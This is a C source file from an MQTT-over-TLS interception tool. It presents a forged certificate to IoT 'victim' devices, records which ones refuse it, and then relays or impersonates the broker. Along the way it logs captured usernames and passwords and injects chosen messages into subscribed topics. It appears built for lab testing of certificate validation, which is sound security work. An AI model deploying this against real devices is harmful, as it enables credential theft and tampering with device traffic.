#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <event2/buffer.h>
#include <event2/bufferevent_ssl.h>
#include <openssl/err.h>

#include "mitm-int.h"
#include "mqttls/explain.h"
#include "mqttls/mqttenc.h"

static void v_read(struct bufferevent *bev, void *arg);
static void u_read(struct bufferevent *bev, void *arg);
static void v_write(struct bufferevent *bev, void *arg);
static void u_write(struct bufferevent *bev, void *arg);
static void v_event(struct bufferevent *bev, short what, void *arg);
static void u_event(struct bufferevent *bev, short what, void *arg);

/* Alerts a client sends when it does not accept the certificate it was shown. */
static bool is_cert_alert(int a)
{
	return a == 42 || a == 43 || a == 44 || a == 45 || a == 46 || a == 48 || a == 49;
}

void victim_info_cb(const SSL *ssl, int where, int ret)
{
	struct mitm_victim *vi = SSL_get_app_data(ssl);

	if (!vi || !(where & SSL_CB_ALERT))
		return;
	/* ret is (level << 8) | description; keep the first alert each way. */
	if ((where & SSL_CB_READ) && vi->alert_in < 0)
		vi->alert_in = ret & 0xff;
	else if ((where & SSL_CB_WRITE) && vi->alert_out < 0)
		vi->alert_out = ret & 0xff;
}

/* ---- lifetime -------------------------------------------------------------------------------- */

void victim_destroy(struct mitm_victim *vi)
{
	struct mitm *m = vi->m;

	if (vi->bv)
		bufferevent_free(vi->bv);
	if (vi->bu)
		bufferevent_free(vi->bu);
	if (vi->grace)
		event_free(vi->grace);
	for (size_t i = 0; i < vi->n_subs; i++)
		free(vi->subs[i].filter);
	mitm_framer_free(&vi->framer[MITM_D2B]);
	mitm_framer_free(&vi->framer[MITM_B2D]);
	free(vi->will_topic);
	free(vi->will_payload);
	if (vi->counted)
		m->st.active--;
	mitm_victim_gone(m, vi);
	free(vi);
}

static void finish(struct mitm_victim *vi)
{
	struct mitm *m = vi->m;

	if (vi->handshaken && !vi->said_closed) {
		struct mitm_event ev;
		vi->said_closed = true;
		mitm_event_init(&ev, MITM_EV_CLOSED, vi);
		ev.reason = vi->close_reason ? vi->close_reason : "closed";
		memcpy(ev.packets, vi->packets, sizeof ev.packets);
		memcpy(ev.bytes, vi->bytes, sizeof ev.bytes);
		mitm_emit(m, &ev);
	}
	victim_destroy(vi);
}

static void on_grace(evutil_socket_t fd, short what, void *arg)
{
	(void)fd;
	(void)what;
	finish(arg);
}

static bool drained(struct bufferevent *bev)
{
	return !bev || evbuffer_get_length(bufferevent_get_output(bev)) == 0;
}

/* Once closing: when both sides have written what was queued, go (from the loop, never from
 * inside a caller that still holds the victim). */
static void check_drained(struct mitm_victim *vi)
{
	/* pump() calls again once it has moved on what it framed */
	if (vi->closing && !vi->pumping && drained(vi->bv) && drained(vi->bu) && vi->grace) {
		struct timeval now = { 0, 0 };
		evtimer_add(vi->grace, &now);
	}
}

void victim_close(struct mitm_victim *vi, const char *reason)
{
	struct mitm *m = vi->m;

	if (vi->closing)
		return;
	vi->closing = true;
	if (!vi->close_reason)
		vi->close_reason = reason;
	/* A rogue broker publishes the will of a device that vanished, as a real one would. */
	if (!m->upstream_host && vi->has_will) {
		struct mitm_event ev;
		vi->has_will = false;
		mitm_event_init(&ev, MITM_EV_PUBLISH, vi);
		ev.dir = MITM_D2B;
		ev.topic = (const uint8_t *)vi->will_topic;
		ev.topic_len = vi->will_topic_len;
		ev.payload = vi->will_payload;
		ev.payload_len = vi->will_len;
		ev.qos = vi->will_qos;
		ev.retain = vi->will_retain;
		ev.has_will = true;
		mitm_emit(m, &ev);
		mitm_route(m, vi, (const uint8_t *)vi->will_topic, vi->will_topic_len, vi->will_payload,
			   vi->will_len, vi->will_retain, true);
	}
	if (vi->bv)
		bufferevent_disable(vi->bv, EV_READ);
	if (vi->bu)
		bufferevent_disable(vi->bu, EV_READ);
	vi->grace = evtimer_new(m->base, on_grace, vi);
	if (!vi->grace) {
		finish(vi);   /* only at out of memory; callers do not touch vi after closing */
		return;
	}
	struct timeval tv = { MITM_CLOSE_GRACE, 0 };
	evtimer_add(vi->grace, &tv);
	check_drained(vi);
}

/* One side is dead: drop it at once (nothing more can be written to it), then close. */
static void drop_side(struct mitm_victim *vi, struct bufferevent **side, const char *reason)
{
	if (*side) {
		bufferevent_free(*side);
		*side = NULL;
	}
	if (vi->closing)
		check_drained(vi);
	else
		victim_close(vi, reason);
}

/* ---- subscriptions --------------------------------------------------------------------------- */

bool victim_subscribed(const struct mitm_victim *vi, const uint8_t *topic, size_t tlen)
{
	for (size_t i = 0; i < vi->n_subs; i++)
		if (mitm_topic_match(vi->subs[i].filter, vi->subs[i].len, (const char *)topic, tlen))
			return true;
	return false;
}

static void sub_add(struct mitm_victim *vi, const uint8_t *f, size_t len)
{
	for (size_t i = 0; i < vi->n_subs; i++)
		if (vi->subs[i].len == len && !memcmp(vi->subs[i].filter, f, len))
			return;
	if (vi->n_subs >= MITM_MAX_SUBS || memchr(f, 0, len))
		return;
	char *s = malloc(len + 1);
	if (!s)
		return;
	memcpy(s, f, len);
	s[len] = '\0';
	vi->subs[vi->n_subs].filter = s;
	vi->subs[vi->n_subs++].len = len;
}

static void sub_remove(struct mitm_victim *vi, const uint8_t *f, size_t len)
{
	for (size_t i = 0; i < vi->n_subs; i++)
		if (vi->subs[i].len == len && !memcmp(vi->subs[i].filter, f, len)) {
			free(vi->subs[i].filter);
			vi->subs[i] = vi->subs[--vi->n_subs];
			return;
		}
}

static bool filter_matches_inject(const struct mitm *m, const uint8_t *f, size_t len)
{
	for (size_t i = 0; i < m->n_inject; i++)
		if (mitm_topic_match((const char *)f, len, m->inject[i].topic, strlen(m->inject[i].topic)))
			return true;
	return false;
}

/* ---- sending --------------------------------------------------------------------------------- */

static void send_bytes(struct mitm_victim *vi, struct mq_str *b)
{
	if (vi->bv && b->len)
		bufferevent_write(vi->bv, b->s, b->len);
	mq_str_free(b);
}

int victim_publish(struct mitm_victim *vi, const uint8_t *topic, size_t tlen, const uint8_t *payload,
		   size_t len, bool retain)
{
	struct mq_str b = { 0 };
	char *t;

	if (!vi->bv || vi->closing || tlen > 65535)
		return -1;
	if (!(t = malloc(tlen + 1)))
		return -1;
	memcpy(t, topic, tlen);
	t[tlen] = '\0';
	if (mqttenc_publish(&b, vi->version, t, payload, len, 0, retain, false, 0) < 0) {
		free(t);
		mq_str_free(&b);
		return -1;
	}
	free(t);
	send_bytes(vi, &b);
	return 0;
}

/* The --inject messages whose topic a filter of this victim matches, each once. */
static void inject_for(struct mitm_victim *vi)
{
	struct mitm *m = vi->m;

	for (size_t i = 0; i < m->n_inject; i++) {
		const char *t = m->inject[i].topic, *p = m->inject[i].payload;
		if (!victim_subscribed(vi, (const uint8_t *)t, strlen(t)))
			continue;
		if (victim_publish(vi, (const uint8_t *)t, strlen(t), (const uint8_t *)p, strlen(p), false) == 0) {
			struct mitm_event ev;
			mitm_event_init(&ev, MITM_EV_INJECT, vi);
			ev.topic = (const uint8_t *)t;
			ev.topic_len = strlen(t);
			ev.payload = (const uint8_t *)p;
			ev.payload_len = strlen(p);
			mitm_emit(m, &ev);
		}
	}
}

/* ---- what was seen --------------------------------------------------------------------------- */

void mitm_event_from_packet(struct mitm_event *ev, const struct mqtt_pkt *p)
{
	if (p->type == MQTT_CONNECT) {
		ev->type = MITM_EV_CONNECT;
		ev->protocol = p->version;
		ev->client_id = p->client_id.p;
		ev->client_id_len = p->client_id.len;
		ev->has_username = p->username.p != NULL;
		ev->username = p->username.p;
		ev->username_len = p->username.len;
		ev->has_password = p->password.p != NULL;
		ev->password = p->password.p;
		ev->password_len = p->password.len;
		ev->keepalive = p->keepalive;
		ev->clean = p->clean_start;
		if (p->will) {
			/* the will travels in the topic/payload fields of a CONNECT event */
			ev->has_will = true;
			ev->topic = p->will_topic.p;
			ev->topic_len = p->will_topic.len;
			ev->payload = p->will_payload.p;
			ev->payload_len = p->will_payload.len;
			ev->qos = p->will_qos;
			ev->retain = p->will_retain;
		}
	} else if (p->type == MQTT_PUBLISH) {
		ev->type = MITM_EV_PUBLISH;
		ev->topic = p->topic.p;
		ev->topic_len = p->topic.len;
		ev->payload = p->payload.p;
		ev->payload_len = p->payload.len;
		ev->qos = p->qos;
		ev->retain = p->retain;
		ev->dup = p->dup;
		ev->packet_id = p->has_packet_id ? p->packet_id : -1;
	} else {
		ev->type = p->type == MQTT_CONNACK ? MITM_EV_CONNACK : MITM_EV_PACKET;
		ev->packet = mqttdec_type_name(p->type);
		ev->packet_id = p->has_packet_id ? p->packet_id : -1;
		if (p->type == MQTT_CONNACK || p->has_reason) {
			ev->code = p->reason;
			ev->meaning = mqttdec_reason_name(ev->protocol, p->type, p->reason);
		}
	}
}

static void emit_connect(struct mitm_victim *vi, const struct mqtt_pkt *p)
{
	struct mitm_event ev;

	mitm_event_init(&ev, MITM_EV_CONNECT, vi);
	mitm_event_from_packet(&ev, p);
	vi->m->st.connects++;
	mitm_emit(vi->m, &ev);
}

static void emit_publish(struct mitm_victim *vi, enum mitm_dir dir, const struct mqtt_pkt *p)
{
	struct mitm_event ev;

	mitm_event_init(&ev, MITM_EV_PUBLISH, vi);
	mitm_event_from_packet(&ev, p);
	ev.dir = dir;
	vi->m->st.publishes[dir]++;
	mitm_emit(vi->m, &ev);
}

static void emit_packet(struct mitm_victim *vi, enum mitm_dir dir, const struct mqtt_pkt *p, bool rogue_answer)
{
	struct mitm_event ev;

	mitm_event_init(&ev, MITM_EV_PACKET, vi);
	mitm_event_from_packet(&ev, p);
	ev.dir = dir;
	if (rogue_answer)
		ev.reason = "answered by the rogue broker";
	mitm_emit(vi->m, &ev);
}

static void emit_subscribes(struct mitm_victim *vi, const struct mqtt_pkt *p, uint8_t *codes, size_t *n_codes,
			    bool *wants_inject)
{
	struct cursor it;
	struct mqtt_bytes f;
	uint8_t opt;
	size_t n = 0;

	cur_init(&it, p->list.p, p->list.len);
	while (mqttdec_filter_next(&it, p, &f, &opt)) {
		struct mitm_event ev;
		mitm_event_init(&ev, MITM_EV_SUBSCRIBE, vi);
		ev.topic = f.p;
		ev.topic_len = f.len;
		ev.qos = opt & 3;
		mitm_emit(vi->m, &ev);
		sub_add(vi, f.p, f.len);
		if (filter_matches_inject(vi->m, f.p, f.len))
			*wants_inject = true;
		if (codes && n < 256)
			codes[n] = (opt & 3) <= 2 ? (opt & 3) : 0x80;
		n++;
	}
	if (n_codes)
		*n_codes = n < 256 ? n : 256;
}

static void malformed(struct mitm_victim *vi, enum mitm_dir dir, const char *why)
{
	struct mitm_event ev;

	mitm_event_init(&ev, MITM_EV_MALFORMED, vi);
	ev.dir = dir;
	ev.reason = why;
	mitm_emit(vi->m, &ev);
}

/* ---- the rogue broker -------------------------------------------------------------------------- */

static void save_will(struct mitm_victim *vi, const struct mqtt_pkt *p)
{
	if (!p->will || memchr(p->will_topic.p, 0, p->will_topic.len))
		return;
	vi->will_topic = malloc(p->will_topic.len + 1);
	vi->will_payload = malloc(p->will_payload.len ? p->will_payload.len : 1);
	if (!vi->will_topic || !vi->will_payload)
		return;
	memcpy(vi->will_topic, p->will_topic.p, p->will_topic.len);
	vi->will_topic[p->will_topic.len] = '\0';
	if (p->will_payload.len)
		memcpy(vi->will_payload, p->will_payload.p, p->will_payload.len);
	vi->will_topic_len = p->will_topic.len;
	vi->will_len = p->will_payload.len;
	vi->will_qos = p->will_qos;
	vi->will_retain = p->will_retain;
	vi->has_will = true;
}

/* Send the rogue's answer, reporting it decoded from the very bytes that go out. */
static void rogue_send(struct mitm_victim *vi, struct mq_str *out)
{
	struct mqtt_pkt ans;

	if (out->len && mqttdec_decode((const uint8_t *)out->s, out->len, vi->version, &ans) == MQTTDEC_OK)
		emit_packet(vi, MITM_B2D, &ans, true);
	send_bytes(vi, out);
}

static void rogue_handle(struct mitm_victim *vi, const struct mqtt_pkt *p)
{
	struct mitm *m = vi->m;
	struct mq_str out = { 0 };
	int rc = 0;

	switch (p->type) {
	case MQTT_CONNECT: {
		vi->version = p->version;
		vi->keepalive = p->keepalive;
		emit_connect(vi, p);
		save_will(vi, p);
		rc = mqttenc_connack(&out, vi->version, false, 0);
		/* A broker drops a client silent for 1.5 keepalive periods. */
		if (vi->bv) {
			long ms = p->keepalive * 1500L;
			struct timeval tv = { ms / 1000, (ms % 1000) * 1000 };
			bufferevent_set_timeouts(vi->bv, p->keepalive ? &tv : NULL, NULL);
		}
		break;
	}
	case MQTT_PUBLISH:
		emit_publish(vi, MITM_D2B, p);
		mitm_keep(m, vi, p);
		mitm_route(m, vi, p->topic.p, p->topic.len, p->payload.p, p->payload.len, p->retain, false);
		if (p->qos == 1)
			rc = mqttenc_ack(&out, MQTT_PUBACK, p->packet_id);
		else if (p->qos == 2)
			rc = mqttenc_ack(&out, MQTT_PUBREC, p->packet_id);
		break;
	case MQTT_PUBREL:
		emit_packet(vi, MITM_D2B, p, false);
		rc = mqttenc_ack(&out, MQTT_PUBCOMP, p->packet_id);
		break;
	case MQTT_SUBSCRIBE: {
		uint8_t codes[256];
		size_t n = 0;
		bool inject = false;
		emit_subscribes(vi, p, codes, &n, &inject);
		rc = mqttenc_suback(&out, vi->version, p->packet_id, codes, n);
		if (rc == 0)
			rogue_send(vi, &out);
		struct cursor it;
		struct mqtt_bytes f;
		uint8_t opt;
		cur_init(&it, p->list.p, p->list.len);
		while (mqttdec_filter_next(&it, p, &f, &opt)) {
			char *fs = malloc(f.len + 1);
			if (!fs)
				break;
			memcpy(fs, f.p, f.len);
			fs[f.len] = '\0';
			mitm_deliver_retained(m, vi, fs, f.len);
			free(fs);
		}
		if (inject)
			inject_for(vi);
		break;
	}
	case MQTT_UNSUBSCRIBE: {
		struct cursor it;
		struct mqtt_bytes f;
		uint8_t opt;
		size_t n = 0;
		emit_packet(vi, MITM_D2B, p, false);
		cur_init(&it, p->list.p, p->list.len);
		while (mqttdec_filter_next(&it, p, &f, &opt)) {
			sub_remove(vi, f.p, f.len);
			n++;
		}
		rc = mqttenc_unsuback(&out, vi->version, p->packet_id, n);
		break;
	}
	case MQTT_PINGREQ:
		emit_packet(vi, MITM_D2B, p, false);
		rc = mqttenc_empty(&out, MQTT_PINGRESP);
		break;
	case MQTT_DISCONNECT:
		emit_packet(vi, MITM_D2B, p, false);
		vi->has_will = false;   /* a clean goodbye discards the will */
		victim_close(vi, "the device disconnected");
		break;
	default:
		emit_packet(vi, MITM_D2B, p, false);
		break;
	}
	if (rc == 0)
		rogue_send(vi, &out);
	mq_str_free(&out);
}

/* ---- the relay --------------------------------------------------------------------------------- */

/* Returns true when the packet was a SUBACK that --inject waits for. */
static bool relay_handle(struct mitm_victim *vi, enum mitm_dir dir, const struct mqtt_pkt *p)
{
	switch (p->type) {
	case MQTT_CONNECT:
		if (dir == MITM_D2B) {
			vi->version = p->version;
			emit_connect(vi, p);
			return false;
		}
		break;
	case MQTT_PUBLISH:
		emit_publish(vi, dir, p);
		return false;
	case MQTT_SUBSCRIBE:
		if (dir == MITM_D2B) {
			bool inject = false;
			emit_subscribes(vi, p, NULL, NULL, &inject);
			if (inject && vi->n_inject_after < MQ_ARRAY_LEN(vi->inject_after))
				vi->inject_after[vi->n_inject_after++] = p->packet_id;
			return false;
		}
		break;
	case MQTT_UNSUBSCRIBE:
		if (dir == MITM_D2B) {
			struct cursor it;
			struct mqtt_bytes f;
			uint8_t opt;
			cur_init(&it, p->list.p, p->list.len);
			while (mqttdec_filter_next(&it, p, &f, &opt))
				sub_remove(vi, f.p, f.len);
		}
		break;
	case MQTT_SUBACK:
		if (dir == MITM_B2D) {
			emit_packet(vi, dir, p, false);
			for (size_t i = 0; i < vi->n_inject_after; i++)
				if (vi->inject_after[i] == p->packet_id) {
					vi->inject_after[i] = vi->inject_after[--vi->n_inject_after];
					return true;
				}
			return false;
		}
		break;
	default:
		break;
	}
	emit_packet(vi, dir, p, false);
	return false;
}

/* ---- framing both directions ---------------------------------------------------------------- */

static void pump(struct mitm_victim *vi, enum mitm_dir dir)
{
	struct mitm *m = vi->m;
	struct bufferevent *src = dir == MITM_D2B ? vi->bv : vi->bu;
	struct bufferevent *dst = dir == MITM_D2B ? vi->bu : vi->bv;
	struct mitm_framer *fr = &vi->framer[dir];
	bool relay = m->upstream_host != NULL;
	struct evbuffer *in, *out;
	double saved_stamp;

	if (!src)
		return;
	in = bufferevent_get_input(src);
	/* Every packet that arrived is framed, decoded and reported where it lies, then all of them
	 * move on together in one copy (mitm_framer_forward): the other side writes them back to
	 * back, as few full TLS records instead of one per packet. */
	out = relay && dst ? bufferevent_get_output(dst) : NULL;
	saved_stamp = m->stamp;
	if (!saved_stamp)
		m->stamp = mitm_wall_now();
	vi->pumping = true;
	while (!vi->closing) {
		char ferr[MQTTDEC_ERR_SIZE] = "";
		struct mqtt_pkt p;
		const uint8_t *raw;
		size_t total;
		int rc = mitm_framer_next(fr, in, m->max_packet, &raw, &total, ferr);

		if (rc == MQTTDEC_MORE)
			break;
		if (rc == MQTTDEC_BAD) {
			malformed(vi, dir, ferr);
			victim_close(vi, dir == MITM_D2B ? "the device sent bytes that are not MQTT"
							 : "the real broker sent bytes that are not MQTT");
			break;
		}
		vi->packets[dir]++;
		vi->bytes[dir] += total;
		m->st.packets[dir]++;
		m->st.bytes[dir] += total;
		if (mqttdec_decode(raw, total, vi->version, &p) != MQTTDEC_OK) {
			malformed(vi, dir, p.err);
			if (!relay) {
				victim_close(vi, "the device sent a malformed packet");
				break;
			}
			/* The relay passes it on unchanged: the real peer judges it, as without us. */
		} else if (relay) {
			bool post_inject = relay_handle(vi, dir, &p);
			if (p.type == MQTT_DISCONNECT && !vi->close_reason)
				vi->close_reason = dir == MITM_D2B ? "the device disconnected"
								   : "the real broker disconnected the device";
			if (post_inject) {
				/* the injection follows the SUBACK it waited for, not the packets after it */
				mitm_framer_forward(fr, in, out);
				inject_for(vi);
			}
		} else if (dir == MITM_D2B) {
			rogue_handle(vi, &p);
		}
	}
	/* What was framed moves on (the rogue broker answers itself: its input is only dropped);
	 * a packet that closed the victim still goes, as it did before it closed. */
	mitm_framer_forward(fr, in, out);
	vi->pumping = false;
	m->stamp = saved_stamp;
	if (vi->closing) {
		check_drained(vi);
		return;
	}
	/* Back-pressure: a fast side waits while the other side's queue is long. */
	if (dst && evbuffer_get_length(bufferevent_get_output(dst)) > MITM_HIGH_WATER) {
		bufferevent_disable(src, EV_READ);
		bufferevent_setwatermark(dst, EV_WRITE, MITM_HIGH_WATER / 2, 0);
	}
}

static void resume_after_drain(struct mitm_victim *vi, struct bufferevent *drained_side)
{
	struct bufferevent *other = drained_side == vi->bv ? vi->bu : vi->bv;

	if (vi->closing) {
		check_drained(vi);
		return;
	}
	if (other && !(bufferevent_get_enabled(other) & EV_READ)) {
		bufferevent_setwatermark(drained_side, EV_WRITE, 0, 0);
		bufferevent_enable(other, EV_READ);
		pump(vi, other == vi->bv ? MITM_D2B : MITM_B2D);
	}
}

static void v_read(struct bufferevent *bev, void *arg)
{
	(void)bev;
	pump(arg, MITM_D2B);
}

static void u_read(struct bufferevent *bev, void *arg)
{
	/* What the real broker sent is acknowledged at once (upstream_ack_now), so that its next
	 * small packet is not held back by Nagle behind a delayed ACK. */
	upstream_ack_now(bufferevent_getfd(bev));
	pump(arg, MITM_B2D);
}

static void v_write(struct bufferevent *bev, void *arg)
{
	resume_after_drain(arg, bev);
}

static void u_write(struct bufferevent *bev, void *arg)
{
	resume_after_drain(arg, bev);
}

/* ---- TLS with the victim ----------------------------------------------------------------------- */

static void handshake_rejected(struct mitm_victim *vi, short what)
{
	struct mitm *m = vi->m;
	struct mitm_event ev;
	SSL *ssl = bufferevent_openssl_get_ssl(vi->bv);
	unsigned long e = 0, next;
	char reason[400];
	const char *alert = vi->alert_in > 0 ? explain_alert_name(vi->alert_in) : NULL;
	char alert_buf[32];

	while ((next = bufferevent_get_openssl_error(vi->bv)) != 0)
		e = next;
	/* A connection that closes without sending a byte is a port check (nc -z, a script waiting
	 * for the port, the lab's own readiness probe), not a device that refused the forgery: it
	 * is logged as closed, not counted as a rejection. */
	if (!(what & BEV_EVENT_TIMEOUT) && vi->alert_in < 0 && ssl && SSL_get_rbio(ssl) &&
	    BIO_number_read(SSL_get_rbio(ssl)) == 0) {
		mitm_event_init(&ev, MITM_EV_CLOSED, vi);
		ev.reason = "a port check: it connected and closed without sending a byte";
		mitm_emit(m, &ev);
		vi->said_closed = true;
		drop_side(vi, &vi->bv, "closed before sending a byte");
		return;
	}
	if (vi->alert_in > 0 && !alert) {
		snprintf(alert_buf, sizeof alert_buf, "alert_%d", vi->alert_in);
		alert = alert_buf;
	}
	if (alert && is_cert_alert(vi->alert_in))
		snprintf(reason, sizeof reason, "the device refused the forged certificate (it sent the alert %s)", alert);
	else if (vi->alert_in == 80)
		/* libmosquitto's own verify callback fails a host name mismatch this way */
		snprintf(reason, sizeof reason, "the device ended the handshake with the alert internal_error "
			 "(mosquitto clients send it when the host name does not match the certificate)");
	else if (alert)
		snprintf(reason, sizeof reason, "the device ended the handshake with the alert %s", alert);
	else if (vi->alert_in == 0)
		snprintf(reason, sizeof reason, "the device closed the handshake (close_notify), most likely "
			 "because it did not accept the certificate");
	else if (what & BEV_EVENT_TIMEOUT)
		snprintf(reason, sizeof reason, "no TLS handshake within %d s", MITM_HANDSHAKE_TIMEOUT);
	else if (e && ERR_GET_REASON(e) == SSL_R_WRONG_VERSION_NUMBER)
		snprintf(reason, sizeof reason, "the device does not speak TLS on this port (plain MQTT?)");
	else if (e)
		snprintf(reason, sizeof reason, "the handshake failed on the MITM's side: %s%s%s",
			 ERR_reason_error_string(e) ? ERR_reason_error_string(e) : "TLS error",
			 vi->alert_out > 0 ? "; it sent the alert " : "",
			 vi->alert_out > 0 && explain_alert_name(vi->alert_out) ? explain_alert_name(vi->alert_out) : "");
	else
		snprintf(reason, sizeof reason, "the device hung up during the handshake without an alert");
	m->st.rejected++;
	mitm_event_init(&ev, MITM_EV_HANDSHAKE, vi);
	ev.result = "rejected";
	ev.alert = alert;
	ev.reason = reason;
	ev.sni = ssl ? SSL_get_servername(ssl, TLSEXT_NAMETYPE_host_name) : NULL;
	mitm_emit(m, &ev);
	vi->said_closed = true;
	drop_side(vi, &vi->bv, "handshake failed");
}

static void handshake_accepted(struct mitm_victim *vi)
{
	struct mitm *m = vi->m;
	struct mitm_event ev;
	SSL *ssl = bufferevent_openssl_get_ssl(vi->bv);
	struct mq_err err = { 0 };

	vi->handshaken = true;
	m->st.accepted++;
	/* A device gets as long as a broker would give it to send CONNECT. */
	struct timeval tv = { MITM_HANDSHAKE_TIMEOUT, 0 };
	bufferevent_set_timeouts(vi->bv, m->upstream_host ? NULL : &tv, NULL);
	mitm_event_init(&ev, MITM_EV_HANDSHAKE, vi);
	ev.result = "accepted";
	ev.tls_version = SSL_get_version(ssl);
	ev.cipher = SSL_get_cipher_name(ssl);
	ev.sni = SSL_get_servername(ssl, TLSEXT_NAMETYPE_host_name);
	mitm_emit(m, &ev);
	if (!m->upstream_host)
		return;
	vi->bu = upstream_connect(m, m->up_ctx, m->upstream_host, m->up_addr, m->up_len, m->n_up, &err);
	if (!vi->bu) {
		mitm_event_init(&ev, MITM_EV_UPSTREAM, vi);
		ev.result = "failed";
		ev.reason = err.msg;
		mitm_emit(m, &ev);
		victim_close(vi, "the real broker could not be reached");
		return;
	}
	bufferevent_setcb(vi->bu, u_read, u_write, u_event, vi);
	bufferevent_enable(vi->bu, EV_READ | EV_WRITE);
}

static void v_event(struct bufferevent *bev, short what, void *arg)
{
	struct mitm_victim *vi = arg;

	(void)bev;
	if (what & BEV_EVENT_CONNECTED) {
		handshake_accepted(vi);
		return;
	}
	if (!vi->handshaken) {
		handshake_rejected(vi, what);
		return;
	}
	if (!vi->close_reason)
		vi->close_reason = (what & BEV_EVENT_TIMEOUT) ? "the device was silent past its keepalive"
				   : (what & BEV_EVENT_EOF)   ? "the device closed the connection"
							       : "the device's connection failed";
	pump(vi, MITM_D2B);   /* whatever arrived with the close still goes on */
	drop_side(vi, &vi->bv, vi->close_reason);
}

static void u_event(struct bufferevent *bev, short what, void *arg)
{
	struct mitm_victim *vi = arg;
	struct mitm *m = vi->m;
	struct mitm_event ev;
	struct mq_err err = { 0 };
	char why[512];

	if (what & BEV_EVENT_CONNECTED) {
		if (upstream_check_peer(m, bev, &err) < 0) {
			mitm_event_init(&ev, MITM_EV_UPSTREAM, vi);
			ev.result = "failed";
			ev.reason = err.msg;
			mitm_emit(m, &ev);
			drop_side(vi, &vi->bu, "the upstream connection was refused by the gate");
			return;
		}
		vi->upstream_up = true;
		bufferevent_set_timeouts(bev, NULL, NULL);
		mitm_event_init(&ev, MITM_EV_UPSTREAM, vi);
		ev.result = "connected";
		ev.tls_version = SSL_get_version(bufferevent_openssl_get_ssl(bev));
		mitm_emit(m, &ev);
		return;
	}
	if (!vi->upstream_up) {
		upstream_failure(bev, what, why, sizeof why);
		mitm_event_init(&ev, MITM_EV_UPSTREAM, vi);
		ev.result = "failed";
		ev.reason = why;
		mitm_emit(m, &ev);
		drop_side(vi, &vi->bu, "the real broker could not be reached");
		return;
	}
	pump(vi, MITM_B2D);
	drop_side(vi, &vi->bu, (what & BEV_EVENT_EOF) ? "the real broker closed the connection"
						       : "the connection to the real broker failed");
}

void victim_accept(struct mitm *m, evutil_socket_t fd, const struct sockaddr *sa, int salen)
{
	struct mitm_victim *vi;
	struct mitm_event ev;
	struct mq_err err = { 0 };
	char addr[INET6_ADDRSTRLEN + 16];
	SSL *ssl;
	int one = 1;

	gate_addr_str(sa, addr, sizeof addr);
	if (m->stopping) {
		close(fd);
		return;
	}
	mitm_event_init(&ev, MITM_EV_REFUSED, NULL);
	ev.client = addr;
	if (gate_check(&m->gate, GATE_VICTIM, sa, (socklen_t)salen, &err) < 0) {
		ev.reason = err.msg;
		goto refuse;
	}
	if (m->st.active >= (unsigned)m->max_conns) {
		snprintf(err.msg, sizeof err.msg, "--max-conns %d victims are already connected", m->max_conns);
		ev.reason = err.msg;
		goto refuse;
	}
	vi = calloc(1, sizeof *vi);
	ssl = vi ? SSL_new(m->srv_ctx) : NULL;
	if (!ssl) {
		free(vi);
		ev.reason = "out of memory";
		goto refuse;
	}
	vi->m = m;
	vi->id = ++m->next_id;
	vi->alert_in = vi->alert_out = -1;
	memcpy(vi->addr, addr, sizeof vi->addr);
	SSL_set_app_data(ssl, vi);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	vi->bv = bufferevent_openssl_socket_new(m->base, fd, ssl, BUFFEREVENT_SSL_ACCEPTING, BEV_OPT_CLOSE_ON_FREE);
	if (!vi->bv) {
		SSL_free(ssl);
		free(vi);
		ev.reason = "out of memory";
		goto refuse;
	}
	bufferevent_openssl_set_allow_dirty_shutdown(vi->bv, 1);
	bufferevent_setcb(vi->bv, v_read, v_write, v_event, vi);
	struct timeval tv = { MITM_HANDSHAKE_TIMEOUT, 0 };
	bufferevent_set_timeouts(vi->bv, &tv, &tv);
	bufferevent_enable(vi->bv, EV_READ | EV_WRITE);
	vi->counted = true;
	m->st.active++;
	vi->next = m->victims;
	if (m->victims)
		m->victims->prev = vi;
	m->victims = vi;
	return;
refuse:
	m->st.refused++;
	mitm_emit(m, &ev);
	close(fd);
}
